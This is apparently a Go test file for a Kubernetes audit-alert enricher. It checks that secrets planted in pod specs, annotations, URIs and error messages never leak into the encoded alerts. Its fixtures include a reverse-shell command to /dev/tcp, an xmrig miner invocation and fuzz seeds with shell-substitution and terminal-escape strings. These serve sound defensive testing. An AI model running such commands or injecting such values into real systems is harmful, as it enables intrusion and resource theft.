package enrich

import (
	"bytes"
	"encoding/json"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/spawnwatch/spawnwatch/processor/alert"
)

// encodings are the alert in every format.
func encodings(t testing.TB, a *alert.Alert) map[string][]byte {
	t.Helper()
	all := map[string][]byte{}
	for _, name := range alert.Formats() {
		encode, err := alert.Format(name)
		if err != nil {
			t.Fatal(err)
		}
		all[name] = encode(nil, a)
	}
	return all
}

// checkLeak searches the whole encoded alert, in every format and in the attributes beside it.
func checkLeak(t testing.TB, a *alert.Alert, event string) {
	t.Helper()
	for name, text := range encodings(t, a) {
		if at := bytes.Index(text, []byte(planted)); at >= 0 {
			t.Errorf("%s leaks: …%s…\n%s", name, text[max(0, at-200):min(len(text), at+60)], event)
		}
		for i, c := range text {
			if c < 0x20 && c != '\n' || c == 0x7f {
				t.Errorf("%s: byte %d is the control character %#x", name, i, c)
				break
			}
		}
	}
	for _, h := range alert.CloudEvent(nil, a) {
		if strings.Contains(h.Value, planted) {
			t.Errorf("the attribute %s leaks: %s", h.Key, h.Value)
		}
	}
}

// TestNothingLeaks plants a secret in every place of an event where one may stand, and looks for it in the finished alert.
func TestNothingLeaks(t *testing.T) {
	e := newEnricher(t, Options{Teams: map[string]Team{"shop": {Team: "checkout"}}})
	spec := func(container string) string {
		return pod(`"x"`, `{"containers":[{"name":"a","image":"a:1",`+container+`}]}`)
	}
	plain := spec(`"args":["x"]`)
	for name, event := range map[string]string{
		"env":                spec(`"env":[{"name":"PASSWORD","value":"` + planted + `"}]`),
		"argument":           spec(`"args":["--password=` + planted + `"]`),
		"argument, next":     spec(`"args":["--password","` + planted + `"]`),
		"command":            spec(`"command":["sh","-c","curl -H 'Authorization: Bearer ` + planted + `' http://x"]`),
		"command of a miner": spec(`"command":["xmrig","--token","` + planted + `"]`),
		"reverse shell":      spec(`"command":["sh","-c","TOKEN=` + planted + ` bash -i >& /dev/tcp/1.2.3.4/1"]`),
		"url":                spec(`"args":["postgres://u:` + planted + `@db"]`),
		"image":              spec(`"args":[],"image":"https://u:` + planted + `@registry/x"`),
		"probe":              spec(`"livenessProbe":{"httpGet":{"port":1,"httpHeaders":[{"name":"X","value":"` + planted + `"}]}}`),
		"last applied":       strings.Replace(plain, `"note":"x"`, `"kubectl.kubernetes.io/last-applied-configuration":"{\"data\":\"`+planted+`\"}"`, 1),
		"annotation":         strings.Replace(plain, `"note":"x"`, `"example.com/db-password":"`+planted+`"`, 1),
		"annotation, text":   strings.Replace(plain, `"note":"x"`, `"note":"token=`+planted+`"`, 1),
		"annotation, owner":  strings.Replace(plain, `"note":"x"`, `"a8r.io/chat":"https://u:`+planted+`@chat"`, 1),
		"annotation, ticket": strings.Replace(plain, `"note":"x"`, `"spawnwatch.io/change-ticket":"https://u:`+planted+`@tickets/1"`, 1),
		"label":              strings.Replace(plain, `"app":"web"`, `"db-password":"`+planted+`"`, 1),
		"uri":                strings.Replace(plain, `/namespaces/shop/pods"`, `/namespaces/shop/pods?token=`+planted+`"`, 1),
		"uri, encoded":       strings.Replace(plain, `/namespaces/shop/pods"`, `/namespaces/shop/pods?x=password%3D`+planted+`"`, 1),
		"user agent":         strings.Replace(plain, `kubectl/v1.36.2`, `curl token=`+planted, 1),
		"message":            refusal(plain, `Pod \"x\" is invalid: spec: Forbidden: no\ncore.EnvVar{Value:\"`+planted+`\"}`),
		"message, value":     refusal(plain, `Pod \"x\" is invalid: spec.containers[0].env[0].value: Invalid value: \"`+planted+`\": no`),
		"message, token":     refusal(plain, `invalid bearer token: `+planted),
		"webhook": strings.Replace(plain, `"annotations":{"auth`, `"annotations":{"patch.webhook.admission.k8s.io/round_0_index_0":"{\"configuration\":\"c\",\"webhook\":\"w\",\"patch\":[{\"op\":\"add\",\"path\":\"/spec/containers/0/env\",\"value\":[{\"name\":\"A\",\"value\":\"`+
			planted+`\"}]}]}","auth`, 1),
		"violation": strings.Replace(plain, `"annotations":{"auth`, `"annotations":{"validation.policy.admission.k8s.io/validation_failure":"[{\"message\":\"password=`+planted+`\"}]","auth`, 1),
		"secret":    strings.NewReplacer(`"resource":"pods"`, `"resource":"secrets"`, `"spec":{`, `"data":{"k":"`+planted+`"},"spec":{`).Replace(plain),
		"exec": strings.NewReplacer(`"resource":"pods"`, `"resource":"pods","subresource":"exec"`, `/namespaces/shop/pods"`,
			`/namespaces/shop/pods/x/exec?command=mysql\u0026command=--password\u0026command=`+planted+`"`).Replace(plain),
		"token request": strings.NewReplacer(`"resource":"pods"`, `"resource":"serviceaccounts","subresource":"token"`, `"spec":{`, `"status":{"token":"`+planted+`"},"spec":{`).Replace(plain),
	} {
		t.Run(name, func(t *testing.T) {
			if !strings.Contains(event, planted) {
				t.Fatalf("nothing was planted: %s", event)
			}
			checkLeak(t, enriched(t, e, event), event)
		})
	}
}

// refusal makes of a creation one that was refused with a message, JSON without quotes.
func refusal(event, message string) string {
	return strings.Replace(event, `"responseStatus":{"metadata":{},"code":201}`, `"responseStatus":{"metadata":{},"status":"Failure","message":"`+message+`","code":422}`, 1)
}

// TestNothingLeaksFromRealEvents plants a secret as the value of every variable, annotation and datum of real events.
func TestNothingLeaksFromRealEvents(t *testing.T) {
	e := newEnricher(t, Options{})
	random := rand.New(rand.NewPCG(1, 2))
	for _, name := range []string{"rr", "request"} {
		n := 0
		for _, line := range corpus(t, name) {
			if n == 150 || !bytes.Contains(line, []byte(`"requestObject"`)) || len(line) > 64<<10 {
				continue
			}
			var event any
			if err := json.Unmarshal(line, &event); err != nil {
				t.Fatal(err)
			}
			if !plant(event, random) {
				continue
			}
			text, err := json.Marshal(event)
			if err != nil {
				t.Fatal(err)
			}
			n++
			checkLeak(t, enriched(t, e, string(text)), string(text))
		}
		if n < 150 {
			t.Errorf("%s: %d events, expected more", name, n)
		}
	}
}

// plant puts the secret wherever an object of Kubernetes may hold one.
func plant(value any, random *rand.Rand) (done bool) {
	switch v := value.(type) {
	case []any:
		for _, item := range v {
			done = plant(item, random) || done
		}
	case map[string]any:
		if containers, ok := v["containers"].([]any); ok {
			for _, c := range containers {
				if c, ok := c.(map[string]any); ok {
					c["env"] = []any{map[string]any{"name": "A", "value": planted}}
					c["args"] = []any{"--token", planted, []string{"--api-key=", "DB_PASSWORD=", "Authorization: Bearer "}[random.IntN(3)] + planted}
					done = true
				}
			}
		}
		if meta, ok := v["metadata"].(map[string]any); ok && v["spec"] != nil {
			meta["annotations"] = map[string]any{"kubectl.kubernetes.io/last-applied-configuration": `{"x":"` + planted + `"}`, "db_password": planted}
			done = true
		}
		for _, item := range v {
			done = plant(item, random) || done
		}
	}
	return done
}

// TestTimeoutLeaksNothing: what goes out when enrichment ran out of time is redacted as well.
func TestTimeoutLeaksNothing(t *testing.T) {
	event := strings.Replace(pod(`"x"`, `{"containers":[{"name":"a","image":"a:1","args":["--token","`+planted+`"]}]}`), `/namespaces/shop/pods"`, `/namespaces/shop/pods?token=`+planted+`"`, 1)
	e := newEnricher(t, Options{})
	v := view(t, newModel(t), event)
	a := base(v, "x")
	released := make(chan struct{})
	e.steps = append([]step{{"slow", func(*Input, *alert.Alert) error { <-released; return nil }}}, e.steps...)
	e.options.Budget = 1
	e.Enrich(v, a)
	close(released)
	if len(a.Notes) != 1 || a.Notes[0].Code != "enrichment_timeout" {
		t.Fatalf("notes %v", a.Notes)
	}
	checkLeak(t, a, event)
}

// FuzzAlert lets a fuzzer choose the names around a planted value.
func FuzzAlert(f *testing.F) {
	f.Add("web", "nginx:1", "DB_PASSWORD")
	f.Add("a'b", "x`y`", "\x1b[31m")
	f.Add("-rf", "$(x)", "\u202e")
	e := newEnricher(f, Options{})
	f.Fuzz(func(t *testing.T, name, image, key string) {
		if len(name)+len(image)+len(key) > 4096 || strings.Contains(name+image+key, planted) {
			return
		}
		quoted := func(s string) string {
			text, err := json.Marshal(s)
			if err != nil {
				t.Fatal(err)
			}
			return string(text)
		}
		event := pod(quoted(name), `{"containers":[{"name":`+quoted(name)+`,"image":`+quoted(image)+`,"env":[{"name":`+quoted(key)+`,"value":"`+planted+`"}],"args":["--password","`+planted+`",`+quoted(name)+`]}]}`)
		a := enriched(t, e, event)
		checkLeak(t, a, event)
		checkSteps(t, a)
		for _, line := range commandsOf(a) {
			if strings.ContainsFunc(line, invisible) {
				t.Errorf("%q", line)
			}
		}
	})
}
